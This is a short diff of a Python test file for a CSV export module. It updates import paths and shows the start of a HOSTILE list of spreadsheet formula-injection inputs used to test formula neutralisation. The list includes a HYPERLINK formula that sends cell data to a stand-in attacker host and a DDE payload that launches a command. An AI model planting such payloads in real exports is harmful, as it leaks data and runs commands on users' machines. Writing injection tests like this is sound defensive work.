@@ -11,9 +11,9 @@ import os
 import pandas as pd
 import pytest
 
-from analysis.export import export, latest_fit_id, neutralise_formulas, to_csv
-from codedrift import db
-from codedrift.schema import AbilityDay, Agent, Attempt, AttemptStatus, Fit, Run, Suite, Task, TaskDifficulty, Verdict
+from core.export import export, latest_fit_id, neutralise_formulas, to_csv
+from core import db
+from core.schema import AbilityDay, Agent, Attempt, AttemptStatus, Fit, Run, Suite, Task, TaskDifficulty, Verdict
 
 DAY = dt.date(2026, 3, 1)
 HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
